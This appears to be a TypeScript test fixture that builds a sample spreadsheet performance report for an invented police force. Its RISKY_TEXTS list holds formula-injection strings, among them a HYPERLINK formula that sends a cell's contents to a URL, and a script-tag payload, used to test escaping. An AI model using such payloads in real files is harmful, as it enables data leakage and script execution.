import { address } from "../../src/domain/cell";
import type { Profile, ReportCell, ReportModel, ReportRow, ReportSheet } from "../../src/report/reportModel";
import { estimateRowHeight } from "../../src/report/page/rowHeight";
import { SAMPLES } from "./sampleMeasures";
import { cell, EXTRACT, headings, row, sheet, top, type Extra } from "./sampleSheets";

/**
 * A report of an invented force, Northmoor Constabulary, with all that a writer can meet: statuses by formula, missing
 * figures, text that looks like a formula, long commentary, links, page breaks and a sheet name with a space.
 */
export function sampleModel(profile: Profile): ReportModel {
  const builders = [summary, measures, actions, exceptions, dataQuality, notes];
  return {
    title: "Performance report",
    organisation: "Northmoor Constabulary",
    period: "Quarter 2 2031/32",
    language: "en-GB",
    profile,
    marking: "OFFICIAL",
    readAt: "2031-10-14T09:30:00Z",
    sheets: builders.map((build) => build(profile)),
  };
}

function summary(profile: Profile): ReportSheet {
  const count = (value: number): ReportCell => cell("number", value, { format: "#,##0" });
  const go = (name: string, at: string): Extra => ({ link: { sheet: name, address: at } });
  return sheet(
    {
      name: "Summary",
      widths: [46, 14, 14, 14, 14, 14],
      opening: [
        ...top(
          "Performance report",
          "Three of five measures that can be rated are Green. One needs the board's attention.",
        ),
        row([cell("link", "See the measures in full", go("Measures", "A5"))]),
        row([cell("link", "See what the data leaves in doubt", go("Data quality", "A5"))]),
        row([
          cell("link", "How performance is measured (web page)", {
            link: { url: "https://example.org/northmoor?a=1&b=2" },
          }),
        ]),
        row([]),
        row([cell("heading", "Statuses by objective")]),
      ],
      table: {
        name: "StatusesByObjective",
        description: "Number of measures with each status, by objective",
        rows: [
          headings("Objective", ">Green", ">Amber", ">Red", ">Not rated", ">Measures"),
          row([cell("text", "Keep people safe at home and in town"), count(2), count(1), count(0), count(0), count(3)]),
          row([cell("text", "Answer the public when they call"), count(1), count(0), count(1), count(0), count(2)]),
          row([
            cell("text", "Make good use of our people and money"),
            count(0),
            count(0),
            count(0),
            count(1),
            count(1),
          ]),
        ],
      },
      statusColumn: null,
      orientation: "landscape",
    },
    profile,
  );
}

function measures(profile: Profile): ReportSheet {
  const rows = SAMPLES.map((sample, index) => {
    const [target, actual, lastYear] = [2, 3, 4].map((column) => address({ row: index + 5, column }));
    const reached = sample.better === "higher" ? `${actual}>=${target}` : `${actual}<=${target}`;
    const improved = sample.better === "higher" ? `${actual}>${lastYear}` : `${actual}<${lastYear}`;
    const formula =
      `IF(AND(ISNUMBER(${target}),ISNUMBER(${actual})),IF(${reached},"Green",` +
      `IF(ISNUMBER(${lastYear}),IF(${improved},"Amber","Red"),"Not rated")),"Not rated")`;
    const figures = sample.values.map((value, at) =>
      cell("number", value, {
        text: sample.texts[at] ?? "",
        format: sample.format,
        ...(at === 0 ? {} : { from: { row: index + 3, column: at + 1 } }),
      }),
    );
    const cells = [
      cell("text", sample.objective),
      cell("text", sample.name),
      ...figures,
      cell("status", sample.status, { formula }),
      cell("text", sample.reason),
    ];
    const before = SAMPLES[index - 1];
    return row(cells, { pageBreakBefore: before !== undefined && before.objective !== sample.objective });
  });
  return sheet(
    {
      name: "Measures",
      widths: [26, 34, 13, 13, 13, 13, 30],
      opening: top(
        "Measures",
        "Each figure is traced to its cell in the extract. A status follows the target first, then last year.",
      ),
      table: {
        name: "Measures",
        description: "Every measure with its target, actual, last year, status and reason",
        rows: [headings("Objective", "Measure", ">Target", ">Actual", ">Last year", "Status", "Reason"), ...rows],
      },
      statusColumn: 5,
      orientation: "landscape",
    },
    profile,
  );
}

const LONG =
  "Two of the three districts now hold a weekly meeting with housing and health partners. The " +
  "third begins in November, " +
  "when its analyst is in post. Repeat victims fell from 41 to 33 where the meeting has run for a " +
  "year, which is fewer than " +
  "chance would give but too few cases to promise the same elsewhere. The programme board asks for " +
  "a decision on funding " +
  "the analyst beyond March: without it the third district would stop after two meetings.";

function actions(profile: Profile): ReportSheet {
  const list = [
    ["A1", "Hold weekly problem-solving meetings in every district", "Amber", LONG],
    ["A2", "Train call handlers in the new script", "Green", "All 84 handlers trained by the end of August."],
    [
      "A3",
      "Replace the duty planning system",
      "Red",
      "The supplier has missed two dates. A plan to run the old system until June is with the chief officers.",
    ],
    ["A4", "Publish response times by ward", "Not rated", "[x]"],
  ] as const;
  const rows = list.map(([id, action, status, commentary]) =>
    row([cell("text", id), cell("text", action), cell("status", status), cell("text", commentary)]),
  );
  return sheet(
    {
      name: "Actions",
      widths: [8, 36, 14, 80],
      opening: top("Actions", "What the plan promised to do, and how far it has come."),
      table: {
        name: "Actions",
        description: "Every action with its status and commentary",
        rows: [headings("Action ID", "Action", "Status", "Commentary"), ...rows],
      },
      statusColumn: 2,
      orientation: "landscape",
    },
    profile,
  );
}

function exceptions(profile: Profile): ReportSheet {
  return sheet(
    {
      name: "Exceptions",
      widths: [44, 14, 62],
      opening: top("Exceptions", "Red first, then Amber: what the board is asked to look at."),
      table: {
        name: "Exceptions",
        description: "Measures that are Red or Amber, and why",
        rows: [
          headings("Measure", "Status", "Reason"),
          row([
            cell("text", "Average wait for a non-emergency call (seconds)", {
              link: { sheet: "Measures", address: "B10" },
            }),
            cell("red", "Red"),
            cell("text", "Missed 40 and not better than last year's 58."),
          ]),
          row([
            cell("text", "Domestic abuse victims visited within three days of the first report"),
            cell("amber", "Amber"),
            cell("text", "Missed 95.0%, better than last year's 90.4%."),
          ]),
        ],
      },
      statusColumn: null,
      orientation: "landscape",
    },
    profile,
  );
}

/** Texts that someone might put in an extract to see what happens. */
export const RISKY_TEXTS = [
  '=HYPERLINK("https://example.org/?"&A1,"Click")',
  "+1+1",
  "-2",
  "@SUM(A1:A9)",
  "<script>alert('no')</script> & \"quotes\"",
  "Literal _x0041_ and emoji \u{1F6A8}",
  "Two lines\nin one cell",
  "£1,000 – “quoted” – café",
] as const;

function dataQuality(profile: Profile): ReportSheet {
  const severities = ["error", "warning", "note"];
  return sheet(
    {
      name: "Data quality",
      widths: [14, 60, 20, 20],
      opening: top("Data quality", "What the extract leaves in doubt, where, and what to do about it."),
      table: {
        name: "Findings",
        description: "Every finding with its place in the extract",
        rows: [
          headings("Severity", "What was found", "Where", ">Times\nfound"),
          ...RISKY_TEXTS.map((text, index) =>
            row([
              cell("text", severities[index % 3] ?? ""),
              cell("text", text),
              cell("text", `${EXTRACT}, C${index + 4}`),
              cell("number", index, {
                format: "#,##0",
                link: index === 1 ? { sheet: "Summary", address: "A1" } : null,
              }),
            ]),
          ),
        ],
      },
      statusColumn: null,
      orientation: "landscape",
    },
    profile,
  );
}

function notes(profile: Profile): ReportSheet {
  const words = [
    ["Amber", "The target was missed, but the figure is better than at the same time last year."],
    ["Green", "The target was reached. A figure equal to the target counts as reached."],
    ["Not rated", "It cannot be told, because a figure it turns on is missing. The reason is given beside it."],
    ["Red", "The target was missed and the figure is no better than at the same time last year."],
    ["[x]", "Not available. A missing figure is never shown as nought."],
  ] as const;
  const paragraph = (text: string): ReportRow =>
    row([cell("body", null), cell("body", text)], { height: estimateRowHeight(text, 70, "body", profile) });
  return sheet(
    {
      name: "Notes",
      widths: [18, 70],
      opening: [
        ...top("Notes", "How to read this report."),
        paragraph(LONG),
        row([]),
        row([cell("heading", "Words and marks")]),
      ],
      table: {
        name: "Glossary",
        description: "Words and marks used in the report, and what they mean",
        rows: [headings("Word", "Meaning"), ...words.map((pair) => row(pair.map((text) => cell("text", text))))],
      },
      statusColumn: null,
      orientation: "portrait",
    },
    profile,
  );
}
